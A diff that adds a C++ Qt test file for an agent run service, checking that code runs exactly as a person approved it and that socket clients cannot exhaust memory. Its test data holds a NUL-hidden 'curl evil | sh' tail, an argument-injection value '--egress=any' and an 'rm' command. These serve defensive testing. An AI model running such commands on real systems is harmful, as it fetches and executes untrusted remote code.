@@ -1,0 +1,595 @@
+// The run path and the agent socket under hostile input, over a real local socket with the kosa8
+// stand-in: the bytes that run are the bytes that were approved (issue 7, finding 7), and nothing
+// an agent or its code does can make the app hold unbounded memory (finding 9).
+#include "agent/AgentService.h"
+#include "agent/InboxModel.h"
+#include "agent/PayloadShapes.h"
+#include "agent/RunExecutor.h"
+#include "kosa8/Kosa8Runner.h"
+#include "support/AgentTestClient.h"
+
+#include <QCoreApplication>
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QProcess>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QTimer>
+
+#include <algorithm>
+#include <cerrno>
+#include <cstring>
+#include <fcntl.h>
+#include <memory>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+using namespace k8::agent;
+using k8::test::AgentTestClient;
+
+namespace {
+
+constexpr int Wait = 30000;
+
+QList<QJsonObject> readJsonLines(const QString& path)
+{
+    QList<QJsonObject> entries;
+    QFile file(path);
+    if (!file.open(QIODevice::ReadOnly))
+        return entries;
+    for (const QByteArray& line : file.readAll().split('\n')) {
+        if (!line.trimmed().isEmpty())
+            entries.append(QJsonDocument::fromJson(line).object());
+    }
+    return entries;
+}
+
+PersonDecision decisionOf(DecisionKind kind, const QJsonObject& editedArgs = {})
+{
+    ActionDecision action;
+    action.kind = kind;
+    action.editedArgs = editedArgs;
+    PersonDecision decision;
+    decision.actions.append(action);
+    return decision;
+}
+
+int errorCodeOf(const QJsonObject& message)
+{
+    return message.value(QStringLiteral("error")).toObject().value(QStringLiteral("code")).toInt();
+}
+
+QString errorMessageOf(const QJsonObject& message)
+{
+    return message.value(QStringLiteral("error")).toObject().value(QStringLiteral("message")).toString();
+}
+
+// A client that reads only when told to: a plain non-blocking socket.
+class RawClient
+{
+public:
+    explicit RawClient(const QString& path)
+    {
+        m_fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
+        sockaddr_un address{};
+        address.sun_family = AF_UNIX;
+        const QByteArray bytes = QFile::encodeName(path);
+        std::memcpy(address.sun_path, bytes.constData(), size_t(bytes.size()));
+        if (::connect(m_fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
+            ::close(m_fd);
+            m_fd = -1;
+            return;
+        }
+        ::fcntl(m_fd, F_SETFL, ::fcntl(m_fd, F_GETFL) | O_NONBLOCK);
+    }
+    ~RawClient()
+    {
+        if (m_fd >= 0)
+            ::close(m_fd);
+    }
+    bool isValid() const { return m_fd >= 0; }
+    // Bytes the kernel took now (0 when it takes nothing, -1 on an error such as a closed peer).
+    qint64 send(const QByteArray& data)
+    {
+        const ssize_t sent = ::send(m_fd, data.constData(), size_t(data.size()), MSG_DONTWAIT | MSG_NOSIGNAL);
+        if (sent < 0)
+            return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : -1;
+        return sent;
+    }
+    bool sendAll(const QByteArray& data)
+    {
+        qsizetype offset = 0;
+        for (int round = 0; offset < data.size() && round < 100000; ++round) {
+            const qint64 sent = send(data.mid(offset));
+            if (sent < 0)
+                return false;
+            offset += sent;
+            if (sent == 0)
+                QCoreApplication::processEvents(); // the service runs on this thread
+        }
+        return offset == data.size();
+    }
+    // Appends what is there to received(); false once the peer has closed.
+    bool readAvailable()
+    {
+        char buffer[64 * 1024];
+        while (true) {
+            const ssize_t got = ::recv(m_fd, buffer, sizeof(buffer), MSG_DONTWAIT);
+            if (got > 0) {
+                m_received.append(buffer, got);
+                m_lineCount += std::count(buffer, buffer + got, '\n');
+                continue;
+            }
+            if (got == 0)
+                return false;
+            return errno == EAGAIN || errno == EWOULDBLOCK;
+        }
+    }
+    const QByteArray& received() const { return m_received; }
+    qint64 lineCount() const { return m_lineCount; }
+    QList<QJsonObject> messages() const
+    {
+        QList<QJsonObject> out;
+        for (const QByteArray& line : m_received.split('\n')) {
+            if (!line.isEmpty())
+                out.append(QJsonDocument::fromJson(line).object());
+        }
+        return out;
+    }
+
+private:
+    int m_fd = -1;
+    QByteArray m_received;
+    qint64 m_lineCount = 0;
+};
+
+} // namespace
+
+class TestRunPath : public QObject
+{
+    Q_OBJECT
+
+private:
+    std::unique_ptr<QTemporaryDir> m_dir;
+    std::unique_ptr<k8::kosa8::Kosa8Runner> m_runner;
+    std::unique_ptr<AgentService> m_service;
+    QString m_standin;
+
+    QString socketPath() const { return m_dir->filePath(QStringLiteral("sock/agent.sock")); }
+    QString dataDir() const { return m_dir->filePath(QStringLiteral("data")); }
+    QString stateDir() const { return m_dir->filePath(QStringLiteral("state")); }
+    QList<QJsonObject> ledger() const { return readJsonLines(dataDir() + QStringLiteral("/ledger.jsonl")); }
+    QList<QJsonObject> runs() const { return readJsonLines(stateDir() + QStringLiteral("/runs.jsonl")); }
+
+    AgentSettings baseSettings() const
+    {
+        AgentSettings settings;
+        settings.socketPath = socketPath();
+        settings.dataDir = dataDir();
+        settings.defaultSandbox = QStringLiteral("box1");
+        settings.serverVersion = QStringLiteral("9.9-test");
+        return settings;
+    }
+
+    bool startService(const AgentSettings& settings)
+    {
+        m_service = std::make_unique<AgentService>(m_runner.get());
+        QString error;
+        const bool ok = m_service->start(settings, &error);
+        if (!ok)
+            qWarning("start failed: %s", qPrintable(error));
+        return ok;
+    }
+
+    bool connectClient(AgentTestClient& client)
+    {
+        QSignalSpy connected(&client, &AgentTestClient::connected);
+        client.connectTo(socketPath());
+        return client.isConnected() || connected.wait(Wait);
+    }
+
+    int standin(const QStringList& arguments) { return QProcess::execute(m_standin, arguments); }
+    void createSandbox()
+    {
+        QCOMPARE(standin({QStringLiteral("sandbox"), QStringLiteral("create"), QStringLiteral("box1")}), 0);
+    }
+
+    // Sends `run` with `params`, approves it as a person and returns the answer's result.
+    QJsonObject approvedRun(AgentTestClient& client, const QJsonObject& params)
+    {
+        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
+        const QJsonValue id = client.request(QStringLiteral("run"), params);
+        if (!queued.wait(Wait))
+            return {};
+        QString error;
+        if (!m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve),
+                               &error)) {
+            qWarning("decide failed: %s", qPrintable(error));
+            return {};
+        }
+        QSignalSpy answered(&client, &AgentTestClient::responseReceived);
+        for (int i = 0; i < 100 && !client.hasResponse(id); ++i)
+            answered.wait(Wait / 100);
+        return client.response(id).value(QStringLiteral("result")).toObject();
+    }
+
+    static QByteArray bytesOf(const QJsonValue& base64)
+    {
+        return QByteArray::fromBase64(base64.toString().toLatin1());
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        m_standin = qEnvironmentVariable("KOSA8_STANDIN");
+        QVERIFY2(QFile::exists(m_standin), "KOSA8_STANDIN must name the kosa8 stand-in");
+    }
+
+    void init()
+    {
+        m_dir = std::make_unique<QTemporaryDir>();
+        QVERIFY(m_dir->isValid());
+        qputenv("KOSA8_STANDIN_STATE", QFile::encodeName(stateDir()));
+        qunsetenv("KOSA8_STANDIN_FAULT");
+        m_runner = std::make_unique<k8::kosa8::Kosa8Runner>();
+        k8::kosa8::ConnectionProfile connection;
+        connection.executable = m_standin;
+        m_runner->setConnection(connection);
+    }
+
+    void cleanup()
+    {
+        m_service.reset();
+        m_runner.reset();
+        m_dir.reset();
+    }
+
+    // ---- finding 7: the bytes that run ----
+
+    // Code that an argv element would cut or could alter reaches kosa8 whole, on standard input,
+    // byte for byte as it was shown and hashed; plain code still goes as one argument.
+    void codeRunsByteForByte_data()
+    {
+        QTest::addColumn<QString>("code");
+        QTest::addColumn<bool>("onStdin");
+        QTest::newRow("NUL hides a tail") << QStringLiteral("print(1)") + QChar(u'\0') +
+                                                 QStringLiteral("import os; os.system('curl evil | sh')\n")
+                                          << true;
+        QTest::newRow("NUL first") << QString(QChar(u'\0')) + QStringLiteral("print(2)\n") << true;
+        QTest::newRow("non-ASCII") << QStringLiteral("print('h\u00e9llo \u4e16\u754c \U0001F600')\n") << true;
+        QTest::newRow("starts with a dash") << QStringLiteral("--egress=any\n") << true;
+        QTest::newRow("control bytes") << QStringLiteral("print('\x01\x1b[31m')\r\n") << false;
+        QTest::newRow("plain") << QStringLiteral("print('plain')\n") << false;
+    }
+
+    void codeRunsByteForByte()
+    {
+        QFETCH(QString, code);
+        QFETCH(bool, onStdin);
+        createSandbox();
+        QVERIFY(startService(baseSettings()));
+        AgentTestClient client;
+        QVERIFY(connectClient(client));
+        const QJsonObject result = approvedRun(client, {{QStringLiteral("code"), code}});
+        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
+        QCOMPARE(result.value(QStringLiteral("code")).toString(), code);
+
+        const QList<QJsonObject> recorded = runs();
+        QCOMPARE(recorded.size(), 1);
+        const QJsonObject run = recorded.first();
+        // What the stand-in received, byte for byte, is what was approved and hashed.
+        QCOMPARE(bytesOf(run.value(QStringLiteral("code_b64"))), code.toUtf8());
+        QCOMPARE(sha256Hex(bytesOf(run.value(QStringLiteral("code_b64")))),
+                 ledger().last().value(QStringLiteral("code_sha256")).toString());
+        QVERIFY(result.value(QStringLiteral("stdout"))
+                    .toString()
+                    .contains(QStringLiteral("ran %1 bytes of python").arg(code.toUtf8().size())));
+        QCOMPARE(!run.value(QStringLiteral("stdin_b64")).isNull(), onStdin);
+        if (onStdin) {
+            QCOMPARE(bytesOf(run.value(QStringLiteral("stdin_b64"))), code.toUtf8());
+            // Nothing of the code on the command line as well.
+            const QJsonArray argv = run.value(QStringLiteral("argv_b64")).toArray();
+            QCOMPARE(argv.size(), 2); // python -
+            QCOMPARE(bytesOf(argv.at(1)), QByteArray("-"));
+        }
+    }
+
+    // A lone surrogate has no UTF-8 form (toUtf8() writes '?'): refused before anyone sees it.
+    void loneSurrogateIsRefused()
+    {
+        QVERIFY(startService(baseSettings()));
+        AgentTestClient client;
+        QVERIFY(connectClient(client));
+        client.sendRaw(R"({"jsonrpc":"2.0","id":"s1","method":"run","params":{"code":"rm /tmp/a\ud800"}})"
+                       "\n");
+        QTRY_VERIFY_WITH_TIMEOUT(client.hasResponse(QStringLiteral("s1")), Wait);
+        const QJsonObject answer = client.response(QStringLiteral("s1"));
+        QCOMPARE(errorCodeOf(answer), ErrorCode::InvalidParams);
+        QVERIFY2(errorMessageOf(answer).contains(QLatin1String("surrogate")),
+                 qPrintable(errorMessageOf(answer)));
+        QCOMPARE(m_service->inbox()->count(), 0);
+    }
+
+    // The executor itself never runs code it cannot pass exactly: an edit with a lone surrogate,
+    // and code that needs standard input for a language whose profile has no standard-input form.
+    void executorRefusesWhatCannotRunExactly()
+    {
+        QString profileError;
+        k8::kosa8::CommandProfile profile = k8::kosa8::CommandProfile::builtIn();
+        QVERIFY2(profile.loadOverridesFromJson(R"({"interpreters": {"ruby": ["ruby", "-e", "{code}"]}})",
+                                               QStringLiteral("test"), &profileError),
+                 qPrintable(profileError));
+        m_runner->setProfile(profile);
+        QSignalSpy jobs(m_runner.get(), &k8::kosa8::Kosa8Runner::jobStarted);
+
+        struct Case
+        {
+            QString language;
+            QString code;
+            QString expected;
+        };
+        const QList<Case> cases{
+            {QStringLiteral("python"), QStringLiteral("print(1)") + QChar(0xD800),
+             QStringLiteral("surrogate")},
+            {QStringLiteral("ruby"), QStringLiteral("puts 1") + QChar(u'\0') + QStringLiteral("system('x')"),
+             QStringLiteral("ruby.stdin")},
+        };
+        for (const Case& c : cases) {
+            RunExecutor executor(m_runner.get());
+            QSignalSpy finished(&executor, &RunExecutor::finished);
+            RunSpec spec;
+            spec.code = c.code;
+            spec.language = c.language;
+            spec.sandbox = QStringLiteral("box1");
+            spec.image = QStringLiteral("python:3.12-slim");
+            spec.checkpoint = true;
+            spec.checkpointLabel = QStringLiteral("before-x");
+            executor.start(spec);
+            QVERIFY(finished.count() == 1 || finished.wait(Wait));
+            QCOMPARE(finished.first().at(0).toBool(), false);
+            const QString message = finished.first().at(2).toString();
+            QVERIFY2(message.contains(c.expected), qPrintable(message));
+        }
+        // Refused before anything ran: not even the checkpoint.
+        QCOMPARE(jobs.count(), 0);
+    }
+
+    // ---- finding 9: bounded resources ----
+
+    // A client that sends and never reads: past the soft cap the app stops reading it (its
+    // requests stay in the kernel, the client's writes block); once it reads, every request is
+    // answered.
+    void clientThatDoesNotReadIsNotRead()
+    {
+        AgentSettings settings = baseSettings();
+        settings.limits.sendQueueSoftCapBytes = 64 * 1024;
+        QVERIFY(startService(settings));
+        RawClient client(socketPath());
+        QVERIFY(client.isValid());
+        // The shortest line that earns an answer (-32700), ~50 times its size.
+        const QByteArray chunk = QByteArray("x\n").repeated(16 * 1024);
+        constexpr qint64 Ceiling = 6 * 1024 * 1024; // unbounded reading would take all of it
+        qint64 written = 0;
+        int refusedInARow = 0;
+        while (written < Ceiling && refusedInARow < 400) {
+            const qint64 sent = client.send(chunk);
+            QVERIFY(sent >= 0);
+            written += sent;
+            refusedInARow = sent == 0 ? refusedInARow + 1 : 0;
+            QCoreApplication::processEvents();
+        }
+        QVERIFY2(written < 3 * 1024 * 1024,
+                 qPrintable(
+                     QStringLiteral("the app took %1 bytes from a client that reads nothing").arg(written)));
+        QCOMPARE(m_service->connectionCount(), 1);
+
+        // It reads: everything it sent is answered, one error per line, nothing lost.
+        const qint64 lines = written / 2;
+        // Read as fast as it comes (the service runs on this thread between reads).
+        QElapsedTimer clock;
+        clock.start();
+        while (client.lineCount() < lines && clock.elapsed() < 2 * Wait) {
+            QVERIFY(client.readAvailable());
+            QCoreApplication::processEvents();
+        }
+        QCOMPARE(client.lineCount(), lines);
+        QCOMPARE(errorCodeOf(client.messages().last()), ErrorCode::ParseError);
+    }
+
+    // Answers past the hard cap (here a run's result to a client that reads nothing) drop the
+    // connection; the run still ends and is in the ledger.
+    void clientThatDoesNotReadIsDroppedPastTheHardCap()
+    {
+        createSandbox();
+        AgentSettings settings = baseSettings();
+        settings.limits.sendQueueSoftCapBytes = 64 * 1024;
+        settings.limits.sendQueueHardCapBytes = 512 * 1024;
+        QVERIFY(startService(settings));
+        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
+        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
+        RawClient client(socketPath());
+        QVERIFY(client.isValid());
+        QVERIFY(client.sendAll(
+            QJsonDocument(QJsonObject{{QStringLiteral("jsonrpc"), QStringLiteral("2.0")},
+                                      {QStringLiteral("id"), 1},
+                                      {QStringLiteral("method"), QStringLiteral("run")},
+                                      {QStringLiteral("params"),
+                                       QJsonObject{{QStringLiteral("code"),
+                                                    QStringLiteral("# stdout-fill: 3000000\n")}}}})
+                .toJson(QJsonDocument::Compact) +
+            '\n'));
+        QVERIFY(queued.wait(Wait));
+        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)));
+        QVERIFY(finished.count() == 1 || finished.wait(Wait));
+        QTRY_COMPARE_WITH_TIMEOUT(m_service->connectionCount(), 0, Wait);
+        QCOMPARE(ledger().last().value(QStringLiteral("decision")).toString(), QStringLiteral("approve"));
+        // The client sees the end of the connection (after whatever reached the kernel).
+        QTRY_VERIFY_WITH_TIMEOUT(!client.readAvailable(), Wait);
+        QVERIFY(client.received().size() < 3000000);
+    }
+
+    // One connection may hold at most its share of the pending limit; others still get in.
+    void pendingShareOfOneConnection()
+    {
+        AgentSettings settings = baseSettings();
+        settings.limits.maxPending = 8;
+        QVERIFY(startService(settings));
+        QCOMPARE(settings.limits.pendingPerConnection(), 4);
+        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
+        AgentTestClient greedy;
+        AgentTestClient other;
+        QVERIFY(connectClient(greedy));
+        QVERIFY(connectClient(other));
+        QList<QJsonValue> ids;
+        for (int i = 0; i < 5; ++i)
+            ids.append(greedy.request(QStringLiteral("review"),
+                                      {{QStringLiteral("payload"), QStringLiteral("p%1").arg(i)}}));
+        QTRY_VERIFY_WITH_TIMEOUT(greedy.hasResponse(ids.last()), Wait);
+        const QJsonObject refusal = greedy.response(ids.last());
+        QCOMPARE(errorCodeOf(refusal), ErrorCode::Busy);
+        QVERIFY2(errorMessageOf(refusal).contains(QLatin1String("per connection")) &&
+                     errorMessageOf(refusal).contains(QLatin1String("4")),
+                 qPrintable(errorMessageOf(refusal)));
+        QCOMPARE(queued.count(), 4);
+        for (int i = 0; i < 4; ++i)
+            other.request(QStringLiteral("review"),
+                          {{QStringLiteral("payload"), QStringLiteral("q%1").arg(i)}});
+        QTRY_COMPARE_WITH_TIMEOUT(queued.count(), 8, Wait);
+    }
+
+    // An idle connection without a pending request is closed; one that waits for a person is not.
+    void idleConnectionsAreClosed()
+    {
+        AgentSettings settings = baseSettings();
+        settings.limits.idleConnectionTimeoutMs = 400;
+        QVERIFY(startService(settings));
+        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
+        AgentTestClient idle;
+        AgentTestClient waiting;
+        QVERIFY(connectClient(idle));
+        QVERIFY(connectClient(waiting));
+        const QJsonValue ping = idle.request(QStringLiteral("ping"));
+        const QJsonValue review = waiting.request(QStringLiteral("review"),
+                                                  {{QStringLiteral("payload"), QStringLiteral("decide me")}});
+        QVERIFY(queued.wait(Wait));
+        QSignalSpy idleClosed(&idle, &AgentTestClient::disconnected);
+        QSignalSpy waitingClosed(&waiting, &AgentTestClient::disconnected);
+        QVERIFY(idleClosed.count() == 1 || idleClosed.wait(Wait));
+        QVERIFY(idle.hasResponse(ping));
+        // Three more idle periods: the one with a pending request stays.
+        QVERIFY(!waitingClosed.wait(1200));
+        QCOMPARE(m_service->connectionCount(), 1);
+        // Answered, it becomes idle too.
+        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Reject)));
+        QTRY_VERIFY_WITH_TIMEOUT(waiting.hasResponse(review), Wait);
+        QVERIFY(waitingClosed.count() == 1 || waitingClosed.wait(Wait));
+        QCOMPARE(m_service->connectionCount(), 0);
+    }
+
+    // The mid-line timeout counts from the first byte of the line: a byte every 100 ms does not
+    // keep a line open past it.
+    void dribbledLineTimesOut()
+    {
+        AgentSettings settings = baseSettings();
+        settings.limits.idleLineTimeoutMs = 600;
+        QVERIFY(startService(settings));
+        AgentTestClient client;
+        QSignalSpy closed(&client, &AgentTestClient::disconnected);
+        QVERIFY(connectClient(client));
+        QTimer dribble;
+        dribble.setInterval(100);
+        connect(&dribble, &QTimer::timeout, &client, [&client] { client.sendRaw("x"); });
+        dribble.start();
+        QVERIFY(closed.wait(5000));
+        dribble.stop();
+        QCOMPARE(m_service->connectionCount(), 0);
+    }
+
+    // run.output: at most maxRunOutputBytes per run; what was not sent is counted in the result,
+    // exactly; the result's stdout stays capped by the runner; pieces are bounded even without
+    // newlines.
+    void runOutputIsCappedAndCounted()
+    {
+        createSandbox();
+        AgentSettings settings = baseSettings();
+        settings.limits.maxRunOutputBytes = 100 * 1024;
+        QVERIFY(startService(settings));
+        m_runner->setLimits([] {
+            k8::kosa8::RunnerLimits limits;
+            limits.outputCapBytes = 256 * 1024;
+            return limits;
+        }());
+        AgentTestClient client;
+        QVERIFY(connectClient(client));
+        const QString code = QStringLiteral("# stdout-fill-nonl: 1000000\n");
+        const QJsonObject result = approvedRun(client, {{QStringLiteral("code"), code}});
+        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
+        qint64 streamed = 0;
+        qint64 largestPiece = 0;
+        for (const QJsonObject& note : client.notifications(QStringLiteral("run.output"))) {
+            const qint64 size = note.value(QStringLiteral("data")).toString().toUtf8().size();
+            streamed += size;
+            largestPiece = qMax(largestPiece, size);
+        }
+        // The stand-in's own last line follows the output on the same line.
+        const qint64 total =
+            1000000 + QStringLiteral("ran %1 bytes of python in box1\n").arg(code.toUtf8().size()).size();
+        QVERIFY2(streamed <= 100 * 1024, qPrintable(QString::number(streamed)));
+        QVERIFY(largestPiece <= 16 * 1024);
+        QVERIFY(result.contains(QStringLiteral("output_dropped_bytes")));
+        QCOMPARE(streamed + result.value(QStringLiteral("output_dropped_bytes")).toInteger(), total);
+        QCOMPARE(result.value(QStringLiteral("truncated")).toBool(), true);
+        QCOMPARE(result.value(QStringLiteral("stdout")).toString().size(), 256 * 1024);
+    }
+
+    // A client that does not read during the run: notifications stop queueing for it (dropped and
+    // counted); the answer still arrives complete once it reads.
+    void runOutputBacksOffForAClientThatDoesNotRead()
+    {
+        createSandbox();
+        AgentSettings settings = baseSettings();
+        settings.limits.runOutputQueueBytes = 32 * 1024;
+        QVERIFY(startService(settings));
+        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
+        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
+        RawClient client(socketPath());
+        QVERIFY(client.isValid());
+        QVERIFY(client.sendAll(
+            R"({"jsonrpc":"2.0","id":7,"method":"run","params":{"code":"# stdout-fill: 8000000\n"}})"
+            "\n"));
+        QVERIFY(queued.wait(Wait));
+        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)));
+        QVERIFY(finished.count() == 1 || finished.wait(Wait));
+        const QJsonObject shown = finished.first().at(1).toJsonObject();
+        const qint64 dropped = shown.value(QStringLiteral("output_dropped_bytes")).toInteger();
+        QVERIFY2(dropped > 4 * 1000 * 1000, qPrintable(QString::number(dropped)));
+
+        // Now it reads: the notifications it got and the drop count add up to all the output.
+        QTRY_VERIFY_WITH_TIMEOUT(
+            (client.readAvailable(), client.received().endsWith("}\n") &&
+                                         client.messages().last().contains(QStringLiteral("result"))),
+            Wait);
+        qint64 streamed = 0;
+        for (const QJsonObject& message : client.messages()) {
+            if (message.value(QStringLiteral("method")).toString() == QLatin1String("run.output"))
+                streamed += message.value(QStringLiteral("params"))
+                                .toObject()
+                                .value(QStringLiteral("data"))
+                                .toString()
+                                .toUtf8()
+                                .size();
+        }
+        const QJsonObject result = client.messages().last().value(QStringLiteral("result")).toObject();
+        QCOMPARE(result.value(QStringLiteral("output_dropped_bytes")).toInteger(), dropped);
+        const qint64 total = 8000000 + QByteArray("ran 23 bytes of python in box1\n").size();
+        QCOMPARE(streamed + dropped, total);
+    }
+};
+
+QTEST_GUILESS_MAIN(TestRunPath)
+#include "tst_runpath.moc"
